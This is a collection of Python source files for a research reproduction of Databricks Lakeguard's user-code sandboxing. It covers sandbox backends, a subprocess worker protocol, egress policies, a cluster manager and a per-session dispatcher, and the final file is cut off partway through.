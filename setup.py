"""Setup shim for environments without the `wheel` package.

The canonical project metadata lives in pyproject.toml; this file only
enables legacy `pip install -e .` in offline environments.
"""

from setuptools import find_packages, setup

setup(
    name="repro",
    version="1.0.0",
    description=(
        "Reproduction of Databricks Lakeguard (SIGMOD 2025): fine-grained "
        "access control and multi-user capabilities for Spark-like workloads"
    ),
    package_dir={"": "src"},
    packages=find_packages(where="src"),
    python_requires=">=3.10",
    install_requires=["cloudpickle"],
)
