"""Sandbox interface and the in-process (simulated-container) backend.

Whatever the backend, the contract is the same:

- a sandbox belongs to exactly one *trust domain* (the owner of the user
  code it runs); the dispatcher never routes another owner's code to it;
- arguments and results cross a serialization boundary — user code never
  shares object graphs with the engine;
- the sandbox's :class:`~repro.sandbox.policy.SandboxPolicy` governs egress.
"""

from __future__ import annotations

import pickle
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Protocol

from repro.common.ids import new_id
from repro.engine.udf import PythonUDF
from repro.errors import SandboxDied, SandboxError, TrustDomainViolation
from repro.sandbox import net
from repro.sandbox.policy import SandboxPolicy

if TYPE_CHECKING:
    from repro.common.faults import FaultInjector


@dataclass
class SandboxStats:
    """Counters benchmarks read."""

    invocations: int = 0
    fused_invocations: int = 0
    rows_in: int = 0
    bytes_in: int = 0
    bytes_out: int = 0
    #: Pickle bytes on the *data* path (batch arguments/results). With the
    #: shared-memory transport this stays ~0 — only ``obj``-fallback columns
    #: contribute — which is the Table-2 property benchmarks assert.
    data_pickle_bytes: int = 0
    #: Pickle bytes on the control path (install/policy frames, shm layout
    #: metadata). Always non-zero and intentionally exempt.
    control_pickle_bytes: int = 0
    #: Raw batch bytes handed off through shared-memory segments.
    shm_bytes: int = 0


class Sandbox(Protocol):
    """What the dispatcher needs from any sandbox backend."""

    sandbox_id: str
    trust_domain: str
    policy: SandboxPolicy
    stats: SandboxStats

    def invoke(self, udf: PythonUDF, arg_columns: list[list[Any]]) -> list[Any]: ...

    def invoke_many(
        self, calls: list[tuple[int, PythonUDF, list[list[Any]]]]
    ) -> dict[int, list[Any]]: ...

    def close(self) -> None: ...

    @property
    def closed(self) -> bool: ...


class InProcessSandbox:
    """Simulated container: real serialization boundary, same interpreter.

    The data path is honest — every batch is pickled in and the results are
    pickled out, exactly the cost structure of moving Arrow batches into a
    container — while the *code* runs in-process so tests stay deterministic
    and debuggable. Egress control is enforced via the ambient policy.
    """

    def __init__(self, trust_domain: str, policy: SandboxPolicy | None = None):
        self.sandbox_id = new_id("sbx")
        self.trust_domain = trust_domain
        self.policy = policy or SandboxPolicy()
        self.stats = SandboxStats()
        #: Chaos hook (set by the cluster manager): a triggered
        #: ``sandbox.invoke`` fault marks the sandbox dead *before* any
        #: stats are bumped or user code runs, modelling a container that
        #: crashed before the request reached it (``delivered=False``).
        self.faults: "FaultInjector | None" = None
        self._closed = False

    # -- helpers ----------------------------------------------------------------

    def _check_open(self) -> None:
        if self._closed:
            raise SandboxError(f"sandbox {self.sandbox_id} is closed")

    def _maybe_inject_death(self) -> None:
        if self.faults is None:
            return
        decision = self.faults.check("sandbox.invoke")
        if decision.triggered:
            self._closed = True
            raise SandboxDied(
                f"sandbox {self.sandbox_id} worker died before the request "
                f"was delivered (injected)",
                delivered=False,
            )

    def _check_domain(self, udf: PythonUDF) -> None:
        if udf.trust_domain != self.trust_domain:
            raise TrustDomainViolation(
                f"UDF '{udf.name}' (domain '{udf.trust_domain}') routed to "
                f"sandbox of domain '{self.trust_domain}'"
            )

    def _roundtrip_in(self, value: Any) -> Any:
        blob = pickle.dumps(value, protocol=pickle.HIGHEST_PROTOCOL)
        self.stats.bytes_in += len(blob)
        self.stats.data_pickle_bytes += len(blob)
        return pickle.loads(blob)

    def _roundtrip_out(self, value: Any) -> Any:
        blob = pickle.dumps(value, protocol=pickle.HIGHEST_PROTOCOL)
        self.stats.bytes_out += len(blob)
        self.stats.data_pickle_bytes += len(blob)
        return pickle.loads(blob)

    # -- invocation --------------------------------------------------------------

    def invoke(self, udf: PythonUDF, arg_columns: list[list[Any]]) -> list[Any]:
        self._check_open()
        self._check_domain(udf)
        self._maybe_inject_death()
        self.stats.invocations += 1
        if arg_columns:
            self.stats.rows_in += len(arg_columns[0])
        inside_args = self._roundtrip_in(arg_columns)
        with net.ambient_policy(self.policy):
            result = udf.invoke_rows(inside_args)
        return self._roundtrip_out(result)

    def invoke_many(
        self, calls: list[tuple[int, PythonUDF, list[list[Any]]]]
    ) -> dict[int, list[Any]]:
        """One fused round-trip: all calls' arguments cross together."""
        self._check_open()
        for _, udf, _ in calls:
            self._check_domain(udf)
        self._maybe_inject_death()
        self.stats.invocations += 1
        self.stats.fused_invocations += 1
        if calls and calls[0][2]:
            self.stats.rows_in += len(calls[0][2][0])
        inside = self._roundtrip_in([(cid, args) for cid, _, args in calls])
        udfs = {cid: udf for cid, udf, _ in calls}
        results: dict[int, list[Any]] = {}
        with net.ambient_policy(self.policy):
            for cid, args in inside:
                results[cid] = udfs[cid].invoke_rows(args)
        out = self._roundtrip_out(results)
        return out

    def ping(self) -> bool:
        """Liveness probe mirroring the subprocess backend's protocol ping."""
        self._check_open()
        return True

    def close(self) -> None:
        self._closed = True

    @property
    def closed(self) -> bool:
        return self._closed
