"""User-code isolation (§3.3): sandboxes, dispatcher, cluster manager.

Two sandbox backends implement the same interface:

- :class:`~repro.sandbox.sandbox.InProcessSandbox` — a *simulated* container:
  arguments and results genuinely cross a serialization boundary (pickle in,
  pickle out) and egress is policy-checked, but the code runs in the host
  interpreter. Deterministic and fast; used by tests and cost models.
- :class:`~repro.sandbox.subprocess_sandbox.SubprocessSandbox` — real process
  isolation: user functions are shipped (cloudpickle) to a worker process and
  invoked over length-prefixed pickle frames on pipes. Used by the Table 2
  overhead benchmarks, where the isolation boundary must be physical.

The :class:`~repro.sandbox.dispatcher.Dispatcher` pools sandboxes per
(session, trust domain) and executes *fused* UDF groups in one round-trip;
the :class:`~repro.sandbox.cluster_manager.ClusterManager` creates sandboxes
and owns the egress network rules.
"""

from repro.sandbox.policy import SandboxPolicy
from repro.sandbox.sandbox import InProcessSandbox, Sandbox, SandboxStats
from repro.sandbox.subprocess_sandbox import SubprocessSandbox
from repro.sandbox.dispatcher import Dispatcher, SandboxedUDFRuntime
from repro.sandbox.cluster_manager import ClusterManager

__all__ = [
    "SandboxPolicy",
    "Sandbox",
    "SandboxStats",
    "InProcessSandbox",
    "SubprocessSandbox",
    "Dispatcher",
    "SandboxedUDFRuntime",
    "ClusterManager",
]
