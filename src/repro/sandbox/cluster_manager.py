"""The cluster manager: the trusted component that creates sandboxes (§3.3).

It lives in the "secure and protected cluster management environment that is
fully decoupled from the Apache Spark processes" (Fig. 7): Spark asks the
Dispatcher, the Dispatcher asks the cluster manager, and the manager decides
the sandbox backend, applies the egress network rules, models provisioning
latency, and keeps fleet statistics.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Literal

from repro.common.clock import Clock, SystemClock
from repro.errors import SandboxError
from repro.sandbox.policy import SandboxPolicy
from repro.sandbox.sandbox import InProcessSandbox, Sandbox
from repro.sandbox.subprocess_sandbox import SubprocessSandbox

if TYPE_CHECKING:
    from repro.common.faults import FaultInjector

Backend = Literal["inprocess", "subprocess"]

#: Provisioning latency the paper reports for a cold sandbox start (§5):
#: ~2 s total, dominated by container provisioning plus Python startup.
DEFAULT_PROVISION_SECONDS = 1.8
DEFAULT_INTERPRETER_START_SECONDS = 0.2


@dataclass
class ClusterManagerStats:
    """Sandbox lifecycle counters kept by the cluster manager."""

    created: int = 0
    destroyed: int = 0
    active: int = 0
    peak_active: int = 0
    #: Sum of modelled provisioning time (seconds, on the manager's clock).
    provision_seconds_total: float = 0.0


class ClusterManager:
    """Creates and destroys sandboxes; owns egress rules and latency model."""

    def __init__(
        self,
        backend: Backend = "inprocess",
        clock: Clock | None = None,
        default_policy: SandboxPolicy | None = None,
        provision_seconds: float = 0.0,
        interpreter_start_seconds: float = 0.0,
        faults: "FaultInjector | None" = None,
    ):
        if backend not in ("inprocess", "subprocess"):
            raise SandboxError(f"unknown sandbox backend '{backend}'")
        self.backend: Backend = backend
        self.clock = clock or SystemClock()
        self.default_policy = default_policy or SandboxPolicy()
        #: Chaos engine shared with every sandbox this manager provisions;
        #: ``sandbox.spawn`` fires on creation, ``sandbox.invoke`` inside.
        self.faults = faults
        #: Specialized execution environments outside the cluster (§3.3):
        #: resource name ("gpu", "high_memory") -> the manager serving it.
        self.specialized_pools: dict[str, "ClusterManager"] = {}
        #: Modelled latency charged against ``clock`` on every cold start.
        #: Zero by default so real-time runs do not sleep; simulations pass
        #: DEFAULT_PROVISION_SECONDS with a VirtualClock.
        self.provision_seconds = provision_seconds
        self.interpreter_start_seconds = interpreter_start_seconds
        self.stats = ClusterManagerStats()
        self._active: dict[str, Sandbox] = {}

    # -- lifecycle -----------------------------------------------------------------

    def create_sandbox(
        self,
        trust_domain: str,
        policy: SandboxPolicy | None = None,
        environment: str | None = None,
    ) -> Sandbox:
        """Provision a new sandbox for one trust domain.

        ``environment`` pins the workload-environment version loaded inside
        the sandbox (dependency set + interpreter version, §6.3).
        """
        effective = policy or self.default_policy
        if self.faults is not None:
            self.faults.fire("sandbox.spawn")
        startup = self.provision_seconds + self.interpreter_start_seconds
        if startup > 0:
            self.clock.sleep(startup)
            self.stats.provision_seconds_total += startup
        if self.backend == "subprocess":
            sandbox: Sandbox = SubprocessSandbox(trust_domain, effective)
        else:
            sandbox = InProcessSandbox(trust_domain, effective)
        sandbox.faults = self.faults  # type: ignore[attr-defined]
        sandbox.environment = environment  # type: ignore[attr-defined]
        self._active[sandbox.sandbox_id] = sandbox
        self.stats.created += 1
        self.stats.active = len(self._active)
        self.stats.peak_active = max(self.stats.peak_active, self.stats.active)
        return sandbox

    def register_specialized_pool(
        self, resource: str, manager: "ClusterManager"
    ) -> None:
        """Attach an external execution environment for one resource kind."""
        self.specialized_pools[resource] = manager

    def manager_for(self, requirements: frozenset[str]) -> "ClusterManager":
        """Route by resource requirements; local manager when none match.

        A request naming a resource without a registered pool fails loudly —
        silently running GPU code on a CPU sandbox would violate the user's
        expectations, not just performance.
        """
        if not requirements:
            return self
        for resource in sorted(requirements):
            pool = self.specialized_pools.get(resource)
            if pool is not None:
                return pool
        raise SandboxError(
            f"no specialized execution environment for resources "
            f"{sorted(requirements)}; registered: "
            f"{sorted(self.specialized_pools)}"
        )

    def destroy_sandbox(self, sandbox: Sandbox) -> None:
        sandbox.close()
        if self._active.pop(sandbox.sandbox_id, None) is not None:
            self.stats.destroyed += 1
            self.stats.active = len(self._active)

    def shutdown(self) -> None:
        """Destroy everything (cluster teardown)."""
        for sandbox in list(self._active.values()):
            self.destroy_sandbox(sandbox)

    def active_sandboxes(self) -> list[Sandbox]:
        return list(self._active.values())
