"""Sandbox security policies.

A policy describes what a sandbox may do. It is decided by the *cluster
manager* (trusted), never by the user code inside the sandbox. Network rules
are dynamic (§3.3: "dynamically controlled network rules ... to additionally
control the egress network traffic of the UDF").
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import EgressDenied


@dataclass(frozen=True)
class SandboxPolicy:
    """Isolation rules applied to one sandbox."""

    #: May the code open outbound network connections at all?
    allow_network: bool = False
    #: When networking is allowed, only these host names are reachable.
    egress_allowlist: frozenset[str] = frozenset()
    #: May the code see the host filesystem? (Always False in production;
    #: exposed for the unisolated baseline.)
    allow_host_filesystem: bool = False
    #: Informational resource bounds (consumed by cost models).
    memory_limit_mb: int = 1024

    def check_egress(self, host: str) -> None:
        """Raise :class:`EgressDenied` unless ``host`` is reachable."""
        if not self.allow_network:
            raise EgressDenied(
                f"network egress is disabled for this sandbox (host '{host}')"
            )
        if "*" in self.egress_allowlist:
            return
        if host not in self.egress_allowlist:
            raise EgressDenied(
                f"host '{host}' is not on the egress allowlist "
                f"{sorted(self.egress_allowlist)}"
            )

    def with_egress(self, *hosts: str) -> "SandboxPolicy":
        return SandboxPolicy(
            allow_network=True,
            egress_allowlist=self.egress_allowlist | frozenset(hosts),
            allow_host_filesystem=self.allow_host_filesystem,
            memory_limit_mb=self.memory_limit_mb,
        )


#: The default production policy: nothing in, nothing out.
LOCKED_DOWN = SandboxPolicy()

#: The legacy, unisolated execution environment (user code in the engine JVM).
UNISOLATED = SandboxPolicy(
    allow_network=True,
    egress_allowlist=frozenset({"*"}),
    allow_host_filesystem=True,
)
