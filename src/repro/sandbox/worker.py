"""Subprocess sandbox worker (the inside of the 'container').

Speaks a length-prefixed pickle frame protocol on stdin/stdout:

    request  = ("install", udf_id, func_blob, name)
             | ("policy", allow_network)
             | ("invoke", udf_id, arg_columns)
             | ("invoke_many", [(call_id, udf_id, arg_columns), ...])
             | ("ping",)
             | ("shutdown",)
    response = ("ok", payload) | ("err", message)

Run with ``python -m repro.sandbox.worker``. The worker deliberately imports
nothing from the engine: it holds only the shipped user functions, mirroring
the paper's property that the sandbox "runs fully isolated from the runtime
environment and is not connected to it directly".
"""

from __future__ import annotations

import pickle
import struct
import sys
from typing import Any, BinaryIO

_HEADER = struct.Struct(">I")


def read_frame(stream: BinaryIO) -> Any:
    """Read one length-prefixed pickle frame (raises EOFError on close)."""
    header = stream.read(_HEADER.size)
    if len(header) < _HEADER.size:
        raise EOFError("peer closed the pipe")
    (length,) = _HEADER.unpack(header)
    payload = stream.read(length)
    if len(payload) < length:
        raise EOFError("truncated frame")
    return pickle.loads(payload)


def write_frame(stream: BinaryIO, message: Any) -> None:
    payload = pickle.dumps(message, protocol=pickle.HIGHEST_PROTOCOL)
    stream.write(_HEADER.pack(len(payload)))
    stream.write(payload)
    stream.flush()


def _disable_network() -> None:
    """Best-effort egress lockdown: real sockets raise inside this process."""
    import socket

    def _denied(*args, **kwargs):
        raise PermissionError("network egress is disabled in this sandbox")

    socket.socket = _denied  # type: ignore[assignment]
    socket.create_connection = _denied  # type: ignore[assignment]


def _invoke(func, arg_columns: list[list[Any]]) -> list[Any]:
    return [func(*row) for row in zip(*arg_columns)]


def main() -> int:
    """Worker loop: serve install/policy/invoke requests until shutdown."""
    stdin = sys.stdin.buffer
    stdout = sys.stdout.buffer
    # User code printing to stdout would corrupt the frame protocol;
    # redirect the Python-level stdout to stderr inside the sandbox.
    sys.stdout = sys.stderr

    import cloudpickle  # deferred: only the worker needs it at import time

    functions: dict[str, Any] = {}

    while True:
        try:
            message = read_frame(stdin)
        except EOFError:
            return 0
        kind = message[0]
        try:
            if kind == "shutdown":
                write_frame(stdout, ("ok", None))
                return 0
            if kind == "ping":
                write_frame(stdout, ("ok", "pong"))
            elif kind == "policy":
                _, allow_network = message
                if not allow_network:
                    _disable_network()
                write_frame(stdout, ("ok", None))
            elif kind == "install":
                _, udf_id, func_blob, _name = message
                functions[udf_id] = cloudpickle.loads(func_blob)
                write_frame(stdout, ("ok", None))
            elif kind == "invoke":
                _, udf_id, arg_columns = message
                result = _invoke(functions[udf_id], arg_columns)
                write_frame(stdout, ("ok", result))
            elif kind == "invoke_many":
                _, calls = message
                results = {
                    call_id: _invoke(functions[udf_id], arg_columns)
                    for call_id, udf_id, arg_columns in calls
                }
                write_frame(stdout, ("ok", results))
            else:
                write_frame(stdout, ("err", f"unknown message kind {kind!r}"))
        except Exception as exc:  # noqa: BLE001 - report, don't die
            write_frame(stdout, ("err", f"{type(exc).__name__}: {exc}"))


if __name__ == "__main__":
    sys.exit(main())
