"""Subprocess sandbox worker (the inside of the 'container').

Speaks a length-prefixed pickle frame protocol on stdin/stdout:

    request  = ("install", udf_id, func_blob, name)
             | ("policy", allow_network)
             | ("invoke", udf_id, arg_columns)
             | ("invoke_many", [(call_id, udf_id, arg_columns), ...])
             | ("invoke_shm", udf_id, shm_name, meta)
             | ("invoke_many_shm",
                [(call_id, udf_id, meta, offset, length), ...], shm_name)
             | ("ping",)
             | ("shutdown",)
    response = ("ok", payload) | ("err", message)

The ``*_shm`` kinds are the zero-pickle data path: batch columns live in a
named shared-memory segment encoded by :mod:`repro.common.shmbuf`, and only
the (small) layout metadata rides the pipe. Results come back the same way —
the worker creates the result segment, disclaims ownership, and the driver
adopts and unlinks it.

Run with ``python -m repro.sandbox.worker``. The worker deliberately imports
nothing from the engine — only the shipped user functions and the pure-stdlib
``shmbuf`` codec — mirroring the paper's property that the sandbox "runs
fully isolated from the runtime environment and is not connected to it
directly".
"""

from __future__ import annotations

import pickle
import struct
import sys
from typing import Any, BinaryIO

_HEADER = struct.Struct(">I")


def read_frame(stream: BinaryIO) -> tuple[Any, int]:
    """Read one length-prefixed pickle frame (raises EOFError on close).

    Returns ``(message, total_bytes)`` so callers can account for pipe
    traffic — the Table 2 benchmarks split it into data vs. control bytes.
    """
    header = stream.read(_HEADER.size)
    if len(header) < _HEADER.size:
        raise EOFError("peer closed the pipe")
    (length,) = _HEADER.unpack(header)
    payload = stream.read(length)
    if len(payload) < length:
        raise EOFError("truncated frame")
    return pickle.loads(payload), _HEADER.size + length


def write_frame(stream: BinaryIO, message: Any) -> int:
    """Write one frame; returns the total bytes put on the pipe."""
    payload = pickle.dumps(message, protocol=pickle.HIGHEST_PROTOCOL)
    stream.write(_HEADER.pack(len(payload)))
    stream.write(payload)
    stream.flush()
    return _HEADER.size + len(payload)


def _disable_network() -> None:
    """Best-effort egress lockdown: real sockets raise inside this process."""
    import socket

    def _denied(*args, **kwargs):
        raise PermissionError("network egress is disabled in this sandbox")

    socket.socket = _denied  # type: ignore[assignment]
    socket.create_connection = _denied  # type: ignore[assignment]


def _invoke(func, arg_columns: list[list[Any]]) -> list[Any]:
    return [func(*row) for row in zip(*arg_columns)]


_SHMBUF = None


def _shm_codec():
    """Load the shared-memory codec on first use (legacy mode never pays).

    The worker owns no segment lifetimes — it attaches to driver-created
    segments and transfers ownership of every segment it creates — so its
    resource tracker would only spawn a useless helper process inside the
    sandbox; disable it outright.
    """
    global _SHMBUF
    if _SHMBUF is None:
        from repro.common import shmbuf

        shmbuf.disable_resource_tracking()
        _SHMBUF = shmbuf
    return _SHMBUF


def _pack_results(
    shmbuf, results: list[tuple[Any, list[Any]]]
) -> tuple[str, list[tuple[Any, dict[str, Any], int, int]]]:
    """Encode per-call result columns into one transferred segment."""
    entries: list[tuple[Any, dict[str, Any], int, int]] = []
    chunks: list[bytes] = []
    offset = 0
    for call_id, result in results:
        meta, payload = shmbuf.encode_columns([result], len(result))
        pad = (-offset) % shmbuf.ALIGNMENT
        if pad:
            chunks.append(b"\x00" * pad)
            offset += pad
        entries.append((call_id, meta, offset, len(payload)))
        chunks.append(payload)
        offset += len(payload)
    segment = shmbuf.create_segment(b"".join(chunks))
    shmbuf.transfer_segment(segment)
    name = segment.name
    segment.close()
    return name, entries


def main() -> int:
    """Worker loop: serve install/policy/invoke requests until shutdown."""
    stdin = sys.stdin.buffer
    stdout = sys.stdout.buffer
    # User code printing to stdout would corrupt the frame protocol;
    # redirect the Python-level stdout to stderr inside the sandbox.
    sys.stdout = sys.stderr

    import cloudpickle  # deferred: only the worker needs it at import time

    functions: dict[str, Any] = {}

    while True:
        try:
            message, _ = read_frame(stdin)
        except EOFError:
            return 0
        kind = message[0]
        try:
            if kind == "shutdown":
                write_frame(stdout, ("ok", None))
                return 0
            if kind == "ping":
                write_frame(stdout, ("ok", "pong"))
            elif kind == "policy":
                _, allow_network = message
                if not allow_network:
                    _disable_network()
                write_frame(stdout, ("ok", None))
            elif kind == "install":
                _, udf_id, func_blob, _name = message
                functions[udf_id] = cloudpickle.loads(func_blob)
                write_frame(stdout, ("ok", None))
            elif kind == "invoke":
                _, udf_id, arg_columns = message
                result = _invoke(functions[udf_id], arg_columns)
                write_frame(stdout, ("ok", result))
            elif kind == "invoke_many":
                _, calls = message
                results = {
                    call_id: _invoke(functions[udf_id], arg_columns)
                    for call_id, udf_id, arg_columns in calls
                }
                write_frame(stdout, ("ok", results))
            elif kind == "invoke_shm":
                _, udf_id, shm_name, meta = message
                shmbuf = _shm_codec()
                segment = shmbuf.attach_segment(shm_name)
                try:
                    arg_columns = shmbuf.decode_columns(meta, segment.buf)
                finally:
                    segment.close()
                result = _invoke(functions[udf_id], arg_columns)
                out_name, entries = _pack_results(shmbuf, [(None, result)])
                write_frame(stdout, ("ok", (out_name, entries[0][1])))
            elif kind == "invoke_many_shm":
                _, wire_calls, shm_name = message
                shmbuf = _shm_codec()
                segment = shmbuf.attach_segment(shm_name)
                try:
                    calls = [
                        (
                            call_id,
                            udf_id,
                            shmbuf.decode_columns(
                                meta, segment.buf[offset : offset + length]
                            ),
                        )
                        for call_id, udf_id, meta, offset, length in wire_calls
                    ]
                finally:
                    segment.close()
                results = [
                    (call_id, _invoke(functions[udf_id], arg_columns))
                    for call_id, udf_id, arg_columns in calls
                ]
                out_name, entries = _pack_results(shmbuf, results)
                write_frame(stdout, ("ok", (out_name, entries)))
            else:
                write_frame(stdout, ("err", f"unknown message kind {kind!r}"))
        except Exception as exc:  # noqa: BLE001 - report, don't die
            write_frame(stdout, ("err", f"{type(exc).__name__}: {exc}"))


if __name__ == "__main__":
    sys.exit(main())
