"""The Dispatcher: sandbox pooling per (session, trust domain) (§3.3).

The dispatcher sits between query processes and the cluster manager. It
guarantees:

- one sandbox is never shared across trust domains (different code owners);
- one sandbox is never shared across *sessions* (different users on
  multi-user compute) — no residual state crosses either boundary;
- warm sandboxes are reused within a session, so the ~2 s cold start is paid
  once per (session, domain) and amortized across queries (§5).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from repro.common.clock import Clock
from repro.common.context import current_context, span_or_null
from repro.engine.expressions import UDFRuntime
from repro.engine.udf import PythonUDF
from repro.sandbox.cluster_manager import ClusterManager
from repro.sandbox.policy import SandboxPolicy
from repro.sandbox.sandbox import Sandbox


@dataclass
class DispatcherStats:
    cold_starts: int = 0
    warm_acquisitions: int = 0
    #: Wall (or virtual) seconds spent waiting on cold starts.
    cold_start_seconds_total: float = 0.0
    cold_start_seconds_max: float = 0.0


class Dispatcher:
    """Routes user-code execution to per-(session, trust-domain) sandboxes."""

    def __init__(self, cluster_manager: ClusterManager, clock: Clock | None = None):
        self._manager = cluster_manager
        self._clock = clock or cluster_manager.clock
        #: (session_id, trust_domain, environment, requirements)
        #: -> (owning manager, sandbox).
        self._pool: dict[
            tuple[str, str, str | None, frozenset[str]],
            tuple[ClusterManager, Sandbox],
        ] = {}
        self.stats = DispatcherStats()

    # -- acquisition ----------------------------------------------------------------

    def acquire(
        self,
        session_id: str,
        trust_domain: str,
        policy: SandboxPolicy | None = None,
        environment: str | None = None,
        requirements: frozenset[str] = frozenset(),
    ) -> Sandbox:
        """Warm sandbox if one exists for this (session, domain, env,
        resources); cold otherwise.

        ``environment`` is the workload-environment version the session
        pinned (§6.3): "the system will explicitly load the given workload
        environment and execute the user code exactly in this environment" —
        so sandboxes are never shared across environment versions either.
        ``requirements`` routes GPU/high-memory code to specialized
        execution environments outside the cluster (§3.3).
        """
        key = (session_id, trust_domain, environment, requirements)
        qctx = current_context()
        entry = self._pool.get(key)
        if entry is not None and not entry[1].closed:
            self.stats.warm_acquisitions += 1
            if qctx is not None:
                qctx.event(
                    "sandbox-reused",
                    trust_domain=trust_domain,
                    session_id=session_id,
                )
            return entry[1]
        manager = self._manager.manager_for(requirements)
        with span_or_null(
            qctx,
            "sandbox-cold-start",
            "sandbox.acquire",
            mode="cold",
            trust_domain=trust_domain,
            session_id=session_id,
            environment=environment,
        ) as span:
            started = self._clock.now()
            sandbox = manager.create_sandbox(
                trust_domain, policy, environment=environment
            )
            elapsed = self._clock.now() - started
            if span is not None:
                span.set_attribute("cold_start_seconds", elapsed)
        self.stats.cold_starts += 1
        self.stats.cold_start_seconds_total += elapsed
        self.stats.cold_start_seconds_max = max(
            self.stats.cold_start_seconds_max, elapsed
        )
        if qctx is not None:
            qctx.telemetry.counter("sandbox.cold_starts").inc()
        self._pool[key] = (manager, sandbox)
        return sandbox

    def release_session(self, session_id: str) -> int:
        """Destroy all of one session's sandboxes; returns how many."""
        doomed = [key for key in self._pool if key[0] == session_id]
        for key in doomed:
            manager, sandbox = self._pool.pop(key)
            manager.destroy_sandbox(sandbox)
        return len(doomed)

    def pool_size(self) -> int:
        return len(self._pool)

    def sandboxes_of(self, session_id: str) -> list[Sandbox]:
        return [
            entry[1] for key, entry in self._pool.items() if key[0] == session_id
        ]


class SandboxedUDFRuntime(UDFRuntime):
    """UDF runtime that executes every call inside dispatcher sandboxes.

    This is what Lakeguard installs on Standard clusters; the inline default
    :class:`~repro.engine.expressions.UDFRuntime` is the legacy, unisolated
    behaviour used as the Table 2 baseline.
    """

    def __init__(
        self,
        dispatcher: Dispatcher,
        session_id: str,
        policy: SandboxPolicy | None = None,
        environment: str | None = None,
    ):
        self._dispatcher = dispatcher
        self._session_id = session_id
        self._policy = policy
        self._environment = environment
        self.round_trips = 0
        self.rows_processed = 0

    def run_udf(self, udf: PythonUDF, arg_columns: list[list[Any]]) -> list[Any]:
        sandbox = self._dispatcher.acquire(
            self._session_id, udf.trust_domain, self._policy, self._environment,
            requirements=udf.resource_requirements,
        )
        self.round_trips += 1
        rows = len(arg_columns[0]) if arg_columns else 0
        self.rows_processed += rows
        with span_or_null(
            current_context(),
            f"udf:{udf.name}",
            "sandbox.exec",
            udf=udf.name,
            trust_domain=udf.trust_domain,
            sandbox=sandbox.sandbox_id,
            rows=rows,
        ):
            return sandbox.invoke(udf, arg_columns)

    def run_fused(
        self, calls: list[tuple[int, PythonUDF, list[list[Any]]]]
    ) -> dict[int, list[Any]]:
        """One round-trip per (trust domain, resource needs) in the group."""
        grouped: dict[
            tuple[str, frozenset[str]],
            list[tuple[int, PythonUDF, list[list[Any]]]],
        ] = {}
        for call in calls:
            key = (call[1].trust_domain, call[1].resource_requirements)
            grouped.setdefault(key, []).append(call)
        results: dict[int, list[Any]] = {}
        for (domain, requirements), domain_calls in grouped.items():
            sandbox = self._dispatcher.acquire(
                self._session_id, domain, self._policy, self._environment,
                requirements=requirements,
            )
            self.round_trips += 1
            if domain_calls and domain_calls[0][2]:
                self.rows_processed += len(domain_calls[0][2][0])
            with span_or_null(
                current_context(),
                f"udf-fused:{'+'.join(c[1].name for c in domain_calls)}",
                "sandbox.exec",
                trust_domain=domain,
                sandbox=sandbox.sandbox_id,
                fused_calls=len(domain_calls),
            ):
                results.update(sandbox.invoke_many(domain_calls))
        return results
