"""The Dispatcher: sandbox pooling per (session, trust domain) (§3.3).

The dispatcher sits between query processes and the cluster manager. It
guarantees:

- one sandbox is never shared across trust domains (different code owners);
- one sandbox is never shared across *sessions* (different users on
  multi-user compute) — no residual state crosses either boundary;
- warm sandboxes are reused within a session, so the ~2 s cold start is paid
  once per (session, domain) and amortized across queries (§5).

Two mechanisms move cold starts off the query path entirely:

- :meth:`Dispatcher.prewarm` provisions sandboxes for a session's known
  trust domains ahead of the first query;
- a **spare pool** (``min_pool_size``) of unbound sandboxes provisioned at
  dispatcher startup; a cache-missing acquire claims one by binding it to
  the requested (session, trust domain) — safe because a spare has never
  run any code — instead of paying a cold start.

All pool operations take the dispatcher lock (scan tasks and forked operator
subtrees acquire concurrently); contention is counted in
:class:`DispatcherStats`.
"""

from __future__ import annotations

import threading
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any, Iterator

from repro.common.clock import Clock
from repro.common.context import current_context, span_or_null
from repro.engine.expressions import UDFRuntime
from repro.engine.udf import PythonUDF
from repro.errors import SandboxDied
from repro.sandbox.cluster_manager import ClusterManager
from repro.sandbox.policy import SandboxPolicy
from repro.sandbox.sandbox import Sandbox


@dataclass
class DispatcherStats:
    """Sandbox acquisition counters (cold vs warm) per dispatcher."""

    cold_starts: int = 0
    warm_acquisitions: int = 0
    #: Wall (or virtual) seconds spent waiting on cold starts.
    cold_start_seconds_total: float = 0.0
    cold_start_seconds_max: float = 0.0
    #: Times the dispatcher lock was requested while another thread held it.
    lock_contentions: int = 0
    #: Sandboxes provisioned off the query path (prewarm + spare pool).
    prewarmed: int = 0
    #: Acquisitions satisfied by a prewarmed or spare sandbox.
    prewarm_hits: int = 0
    #: Liveness sweeps run (housekeeping + explicit probes).
    liveness_probes: int = 0
    #: Dead *pooled* sandboxes evicted (probe sweeps or on acquire).
    dead_evicted: int = 0
    #: Dead *spare* sandboxes discarded before they were handed out.
    spares_evicted: int = 0
    #: UDF invokes replayed after a sandbox died pre-delivery (at-most-once).
    udf_retries: int = 0


#: Trust domain spare sandboxes carry until they are claimed. No UDF ever
#: runs under it (claiming rebinds first), so it can never match user code.
SPARE_DOMAIN = "<spare>"

_PoolKey = tuple[str, str, str | None, frozenset[str]]


class Dispatcher:
    """Routes user-code execution to per-(session, trust-domain) sandboxes."""

    def __init__(
        self,
        cluster_manager: ClusterManager,
        clock: Clock | None = None,
        min_pool_size: int = 0,
        workload_manager: Any = None,
    ):
        self._manager = cluster_manager
        self._clock = clock or cluster_manager.clock
        #: (session_id, trust_domain, environment, requirements)
        #: -> (owning manager, sandbox).
        self._pool: dict[_PoolKey, tuple[ClusterManager, Sandbox]] = {}
        #: Unbound sandboxes provisioned ahead of demand (see module doc).
        self._spares: list[tuple[ClusterManager, Sandbox]] = []
        #: Pool keys whose sandbox was provisioned off the query path.
        self._prewarmed_keys: set[_PoolKey] = set()
        #: Workload manager that sandbox claims are charged to: each pooled
        #: sandbox counts against its owning tenant's in-flight budget until
        #: the session releases it. Spares are unowned, so only *claimed*
        #: pool entries are charged. Maps pool key -> charged tenant.
        self._workload = workload_manager
        self._claim_tenants: dict[_PoolKey, str] = {}
        self._lock = threading.Lock()
        self.min_pool_size = max(0, min_pool_size)
        self.stats = DispatcherStats()
        if self.min_pool_size:
            self.ensure_min_pool()

    def _charge_locked(self, key: _PoolKey, trust_domain: str) -> None:
